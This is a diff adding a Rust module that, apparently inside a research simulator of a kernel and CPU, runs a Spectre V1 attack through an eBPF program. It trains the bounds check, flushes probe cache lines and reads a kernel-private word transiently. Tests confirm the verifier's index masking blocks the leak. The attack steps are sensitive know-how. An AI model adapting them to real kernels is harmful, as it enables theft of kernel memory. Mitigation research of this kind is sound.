@@ -1,0 +1,114 @@
+//! Spectre V1 through the eBPF/kernel boundary — the boundary the paper
+//! explicitly leaves unstudied (§1's limitations).
+//!
+//! An unprivileged process loads a BPF program whose bounds check it then
+//! trains in-bounds; a final run with an out-of-bounds map index makes
+//! the *kernel-mode* transient path read a kernel-private word adjacent
+//! to the map and encode it into a second map's cache state. The
+//! verifier's index masking (Linux's array-index sanitation, gated here
+//! on the kernel's Spectre V1 setting) closes the window.
+
+use sim_kernel::abi::nr;
+use sim_kernel::bpf::BpfInsn;
+use sim_kernel::{userlib, BootParams, Kernel};
+use uarch::isa::Reg;
+use uarch::model::CpuModel;
+
+use crate::channel::AttackOutcome;
+
+/// Probe slots (secret is masked to 4 bits to keep the readout small).
+const PROBE_SLOTS: u64 = 16;
+/// Probe stride in map words (64 words = 512 bytes).
+const STRIDE_WORDS: u64 = 64;
+
+/// Runs the attack. `cmdline` configures the kernel (`"nospectre_v1"`
+/// disables the verifier's masking, as on a `mitigations=off` box).
+pub fn run(model: CpuModel, cmdline: &str) -> AttackOutcome {
+    let secret: u8 = 0x0B; // 4-bit payload
+    let mut k = Kernel::boot(model, &BootParams::parse(cmdline));
+
+    // Kernel-side setup: victim map, adjacent secret, probe map, and the
+    // attacker-controlled index map.
+    let victim = k.bpf_create_map(8);
+    let _secret_vaddr = k.bpf_reserve_secret(secret as u64);
+    let probe = k.bpf_create_map(PROBE_SLOTS * STRIDE_WORDS);
+    let index = k.bpf_create_map(1);
+
+    // The program: r1 = index[0]; r2 = victim[r1]; r2 &= 0xf;
+    // r2 <<= 6 (slot -> word offset); r3 = probe[r2]; return r3.
+    let prog = k
+        .bpf_load(&[
+            BpfInsn::MovImm(1, 0),
+            BpfInsn::MapLookup { dst: 1, map: index, idx: 1 },
+            BpfInsn::MapLookup { dst: 2, map: victim, idx: 1 },
+            BpfInsn::AndImm(2, 0xf),
+            BpfInsn::Shl(2, 6),
+            BpfInsn::MapLookup { dst: 3, map: probe, idx: 2 },
+            BpfInsn::Mov(0, 3),
+            BpfInsn::Exit,
+        ])
+        .expect("program verifies");
+
+    // Phase 1 — training: eight in-bounds runs teach the in-kernel
+    // bounds check to fall through.
+    k.bpf_map_write(index, 0, 0);
+    k.spawn(move |b| {
+        let top = userlib::begin_loop(b, Reg::R7, 8);
+        b.mov_imm(Reg::R1, prog as u64);
+        userlib::emit_syscall(b, nr::BPF_PROG_RUN);
+        userlib::end_loop(b, Reg::R7, top);
+        userlib::emit_exit(b);
+    });
+    k.start();
+    k.run(50_000_000).expect("training completes");
+
+    // Phase 2 — the strike: flush the probe map, point the index past the
+    // victim map (slot 8 is the adjacent kernel-private word), run once.
+    for i in 0..PROBE_SLOTS {
+        let paddr = k.bpf_map_paddr(probe, i * STRIDE_WORDS);
+        k.machine.l1d.flush_line(paddr);
+    }
+    k.bpf_map_write(index, 0, 8);
+    k.spawn(move |b| {
+        b.mov_imm(Reg::R1, prog as u64);
+        userlib::emit_syscall(b, nr::BPF_PROG_RUN);
+        userlib::emit_exit(b);
+    });
+    k.start();
+    k.run(50_000_000).expect("strike completes");
+
+    // Readout: which probe slot's line is hot?
+    let mut hits = Vec::new();
+    for i in 0..PROBE_SLOTS {
+        let paddr = k.bpf_map_paddr(probe, i * STRIDE_WORDS);
+        if k.machine.l1d.probe(paddr) {
+            hits.push(i as u8);
+        }
+    }
+    // Training touched slot 0 (victim slots are zero); the strike's
+    // signal is any *other* hot slot.
+    let recovered = hits.iter().copied().find(|h| *h != 0);
+    AttackOutcome { secret, recovered }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use cpu_models::CpuId;
+
+    #[test]
+    fn ebpf_spectre_v1_leaks_without_verifier_masking() {
+        for id in [CpuId::SkylakeClient, CpuId::IceLakeServer, CpuId::Zen2] {
+            let out = run(id.model(), "nospectre_v1 mds=off");
+            assert!(out.leaked(), "{id}: got {:?}", out.recovered);
+        }
+    }
+
+    #[test]
+    fn verifier_masking_blocks_the_leak() {
+        for id in [CpuId::SkylakeClient, CpuId::IceLakeServer, CpuId::Zen2] {
+            let out = run(id.model(), "mds=off");
+            assert!(!out.leaked(), "{id}: got {:?}", out.recovered);
+        }
+    }
+}
